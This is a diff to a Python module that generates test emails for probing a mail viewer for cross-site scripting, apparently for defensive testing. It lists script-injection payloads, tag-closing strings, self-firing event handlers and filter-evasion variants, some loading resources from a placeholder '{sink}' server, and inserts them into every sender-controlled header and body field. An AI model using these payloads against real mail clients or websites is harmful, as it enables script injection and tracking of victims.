@@ -1,12 +1,13 @@
 """Mail that attacks the program that shows it: payloads in everything that a sender controls.
 
-`{sink}` in a payload is a server that counts who comes; `zzran()` is what a script would call. `messages(sink)` gives
-(field, payload, message) triples; each message has its number in the subject.
+`{sink}` in a payload is a server that counts who comes; `zzran()` is what a script would call. `messages(sink)` gives one
+message for each payload: it has that one in the first field, the next ones in the others, so that every payload is in every
+field once. Each message has its number in the subject.
 """
 
 import base64
 
-PAYLOADS = [
+WRITTEN = [
     "<script>zzran(1)</script>",
     "</title><script>zzran(1)</script>",
     "</textarea><script>zzran(1)</script>",
@@ -58,6 +59,31 @@ PAYLOADS = [
     "\u202e<script>zzran(1)</script>",
     "+ADw-script+AD4-zzran(1)+ADw-/script+AD4-",
 ]
+# What ends the place that a text may be in, and what may come then.
+ENDS = ['">', "'>", "`>", "-->", "--!>", "]]>", "*/", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</option></select>",
+        "</template>", "</svg>", "\n\n", "\t", "&quot;>", "\\\">"]
+THEN = ["<script>zzran(2)</script>", "<img src=x onerror=zzran(2)>", "<img/src=http://{sink}/t.png>", "<svg/onload=zzran(2)>",
+        "<iframe/src=http://{sink}/t></iframe>", "<input/autofocus/onfocus=zzran(2)>", "<link rel=stylesheet href=//{sink}/t.css>",
+        "<a href=javascript:zzran(2)>x</a>", "<meta http-equiv=refresh content=0;url=http://{sink}/t>"]
+# Handlers that run by themselves, on elements that may have them.
+HANDLERS = [("img src=x", "onerror"), ("image src=x", "onerror"), ("audio src=x", "onerror"), ("video src=x", "onerror"), ("object data=x", "onerror"),
+            ("script src=x", "onerror"), ("link rel=stylesheet href=x", "onerror"), ("iframe", "onload"), ("style", "onload"), ("svg", "onload"),
+            ("body", "onpageshow"), ("body", "onload"), ("body", "onhashchange"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"),
+            ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"), ("keygen autofocus", "onfocus"), ("details open", "ontoggle"),
+            ("marquee", "onstart"), ("div style='animation:a 1s'", "onanimationstart"), ("p contenteditable autofocus", "onfocus"),
+            ("div tabindex=1 autofocus", "onfocus"), ("video autoplay src=data:,", "onloadstart"), ("audio autoplay src=data:,", "onloadstart")]
+# How filters that look for them are got round.
+TRICKS = ["<{0} {1}=zzran(3)>", "<{0}\t{1}\n=\nzzran(3)>", "<{0}/{1}='zzran(3)'>", "<{0} {1}=&#122;zran(3)>"]
+
+
+def payloads():
+    """At least 300, each once."""
+    made = [end + THEN[(number + step) % len(THEN)] for number, end in enumerate(ENDS) for step in range(8)]
+    for number, (element, handler) in enumerate(HANDLERS):
+        made += [TRICKS[(number + step) % len(TRICKS)].format(element, handler) for step in range(4)]
+    return list(dict.fromkeys(WRITTEN + made))
+
+
 FIELDS = ["from name", "from address", "subject", "message-id", "attachment", "received", "text", "page", "list"]
 
 
@@ -65,29 +91,25 @@ def word(text):
     return "=?utf-8?b?" + base64.b64encode(text.encode()).decode() + "?="
 
 
-def message(number, field, payload):
-    """One with the payload in this field; it is held back, so that reasons, text, links and preview are shown."""
-    raw = payload.replace("\u2028", " ").replace("\u202e", " ")
-    value = {name: "harmless" for name in FIELDS}
-    value[field] = payload
-    address = '"' + raw.replace("\\", "\\\\").replace('"', '\\"') + '"@example.org' if field == "from address" else f"s{number}@example.org"
-    page = value["page"] if field == "page" else "<p>harmless</p>"
-    text = value["text"] if field == "text" else "harmless"
+def message(number, value):
+    """One with these texts in its fields; it is held back, so that reasons, text, links and preview are shown."""
+    raw = {name: " ".join(text.replace("\u2028", " ").replace("\u202e", " ").split()) for name, text in value.items()}
+    address = '"' + raw["from address"].replace("\\", "\\\\").replace('"', '\\"') + '"@example.org'
     name = word(value["attachment"])
     return "\r\n".join([
-        f"Received: from {raw if field == 'received' else 'a.example'} by mx.example.com; Mon, 02 Nov 2026 10:00:00 +0000",
+        f"Received: from {raw['received']} by mx.example.com; Mon, 02 Nov 2026 10:00:00 +0000",
         f"From: {word(value['from name'])} <{address}>",
         "To: ann@example.net",
         f"Subject: {word(f'hostile {number} ' + value['subject'])}",
         "Date: Mon, 02 Nov 2026 10:00:00 +0000",
-        f"Message-ID: <{raw if field == 'message-id' else number}@example.org>",
-        f"List-Unsubscribe: <{raw if field == 'list' else 'https://example.org/'}>",
+        f"Message-ID: <{number}.{raw['message-id']}@example.org>",
+        f"List-Unsubscribe: <{raw['list']}>",
         "MIME-Version: 1.0",
         'Content-Type: multipart/mixed; boundary="b"', "", "--b",
         "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "",
-        base64.b64encode(f"{text} zzheldzz".encode()).decode(), "--b",
+        base64.b64encode(f"{value['text']} zzheldzz".encode()).decode(), "--b",
         "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "",
-        base64.b64encode(f"<html><body>{page}<p>zzheldzz</p></body></html>".encode()).decode(), "--b",
+        base64.b64encode(f"<html><body>{value['page']}<p>zzheldzz</p></body></html>".encode()).decode(), "--b",
         f'Content-Type: application/pdf; name="{name}"',
         f'Content-Disposition: attachment; filename="{name}"', "Content-Transfer-Encoding: base64", "",
         base64.b64encode(b"%PDF-1.4").decode(), "--b--", "",
@@ -95,9 +117,6 @@ def message(number, field, payload):
 
 
 def messages(sink):
-    found = []
-    for field in FIELDS:
-        for payload in PAYLOADS:
-            payload = payload.format(sink=sink)
-            found.append((field, payload, message(len(found), field, payload)))
-    return found
+    texts = [payload.format(sink=sink) for payload in payloads()]
+    count = len(texts)
+    return [message(number, {name: texts[(number + place) % count] for place, name in enumerate(FIELDS)}) for number in range(count)]
